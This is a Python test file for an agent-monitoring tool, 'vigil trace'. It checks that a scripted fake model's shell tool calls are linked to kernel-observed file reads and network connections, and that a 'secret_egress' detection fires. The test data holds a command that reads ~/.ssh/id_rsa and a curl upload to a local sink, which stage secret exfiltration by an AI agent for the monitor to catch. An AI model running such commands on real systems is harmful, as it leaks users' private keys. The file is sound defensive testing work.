"""Tool calls without control: under `vigil trace` (nothing held, nothing placed) the kernel marks
each agent child's first exec, so the same story as under `vigil run` is told: effects under the
tool call the model asked for by its own id, and exfiltration with both calls' ids."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from fakellm import FakeLLMServer, Reply, Scenario, ToolCallSpec, client_env
from helpers import VIGIL, parse_json_lines, vigil
from test_effects_session import AGENT, sink  # noqa: F401  (sink: the exfiltration target fixture)

pytestmark = pytest.mark.usefixtures("root")


def trace_agent(tmp_path: Path, commands: list[str]) -> tuple[list[dict[str, Any]], Path, subprocess.CompletedProcess[str]]:
    """The scripted agent under `vigil trace -- CMD`; its model asks for `commands` in one turn."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nnot-a-real-key\n")
    work = tmp_path / "work"
    work.mkdir()
    scenario = Scenario("steal", default_reply=Reply(
        text="Let me check.", tool_calls=tuple(ToolCallSpec("bash", {"command": c}) for c in commands)))
    db = tmp_path / "vigil.db"
    with FakeLLMServer(scenarios={"steal": scenario}, default_scenario="steal") as server:
        env = {**client_env(server), "HOME": str(home)}
        proc = subprocess.run([*VIGIL, "trace", "-o", "json", "--db", str(db), "--", sys.executable, str(AGENT)],
                              env=env, cwd=work, capture_output=True, text=True, timeout=180, check=False)
        assert server.errors == []
    assert proc.returncode == 0, proc.stderr
    events, _ = parse_json_lines(proc.stdout)
    return events, db, proc


def test_trace_links_the_exfiltration_to_the_models_tool_calls(tmp_path: Path, sink: int) -> None:  # noqa: F811
    read_cmd = "cat ~/.ssh/id_rsa > /dev/null"
    send_cmd = f"curl -s -o /dev/null http://127.0.0.1:{sink}/upload"
    events, db, _ = trace_agent(tmp_path, [read_cmd, send_cmd])
    (llm,) = [e for e in events if e["type"] == "llm_call"]
    model_ids = [tc["id"] for tc in llm["tool_calls"]]
    starts = {e["argv"][-1]: e for e in events if e["type"] == "tool_start"}
    reader, sender = starts[read_cmd], starts[send_cmd]
    # observed, not governed: never stopped, never placed
    assert [(s["held"], s["cgroup"]) for s in (reader, sender)] == [(False, None), (False, None)]
    assert [reader["tool_call_id"], sender["tool_call_id"]] == model_ids
    assert not reader["unrequested"] and not sender["unrequested"]

    home = tmp_path / "home"
    reads = [e for e in events if e["type"] == "file_open" and e.get("path") == f"{home}/.ssh/id_rsa"]
    assert reads and {e["tool_call"] for e in reads} == {reader["tool_call"]}
    connects = [e for e in events if e["type"] == "net_connect" and e.get("remote_port") == sink]
    assert connects and {e["tool_call"] for e in connects} == {sender["tool_call"]}
    ends = {e["tool_call"]: e for e in events if e["type"] == "tool_end"}
    assert ends[reader["tool_call"]]["tool_call_id"] == model_ids[0] and ends[reader["tool_call"]]["outcome"] == "ok"

    (egress,) = [e for e in events if e["type"] == "detection" and e["name"] == "secret_egress"]
    chain = [(link["type"], link.get("tool_call"), link.get("tool_call_id")) for link in egress["evidence"]]
    assert chain[1:] == [("tool_start", reader["tool_call"], model_ids[0]), ("file_open", reader["tool_call"], None),
                         ("tool_start", sender["tool_call"], model_ids[1]), ("net_connect", sender["tool_call"], None)]
    (stray,) = [s for s in starts.values() if s["unrequested"]]
    assert stray["argv"] == ["/bin/true", "unrequested"]

    tree = json.loads(vigil(["show", "--db", str(db), "-o", "json"]).stdout)
    (step,) = tree["timeline"]
    assert sorted(t["start"]["tool_call_id"] for t in step["tool_calls"]) == sorted(model_ids)
    assert tree["summary"]["tool_calls"] == 3
